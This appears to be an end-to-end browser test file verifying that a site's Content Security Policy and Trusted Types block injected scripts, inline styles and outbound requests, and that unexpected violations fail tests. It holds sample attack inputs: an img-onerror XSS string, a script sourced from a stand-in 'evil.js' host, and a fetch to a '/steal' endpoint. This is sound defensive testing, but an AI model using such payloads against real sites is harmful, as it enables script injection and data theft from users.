import { expect, open, test } from "./test.ts";

test("Content Security Policy blocks injected scripts, styles and requests, and the tests report it", async ({
  page,
  expectViolation,
  noise,
}) => {
  expectViolation("require-trusted-types-for", "style-src-attr", "connect-src");
  await open(page, "/");
  const ran = await page.evaluate(async () => {
    const attempt = (action: () => unknown) => {
      try {
        action();
      } catch {
        // Trusted Types refuse with an error.
      }
    };
    const script = document.createElement("script");
    attempt(() => {
      document.body.innerHTML += "<img src=x onerror='window.ran = true'>";
    });
    attempt(() => {
      script.textContent = "window.ran = true";
    });
    attempt(() => {
      script.src = "https://flare.example/evil.js";
    });
    document.body.append(script);
    document.body.setAttribute("style", "color: red");
    await fetch("https://flare.example/steal").catch(() => {});
    return "ran" in window;
  });
  expect(ran).toBe(false);
  noise.length = 0;
});

test.fail(
  "unexpected Content Security Policy violation in any tab fails the test, even if it clears noise",
  async ({ page, context, noise }) => {
    await open(page, "/");
    const other = await context.newPage();
    await open(other, "/products");
    const reported = other.waitForEvent("console", (message) => message.text().startsWith("policy: style-src-attr"));
    await other.evaluate(() => document.body.setAttribute("style", "color: red"));
    await reported;
    noise.length = 0;
  },
);
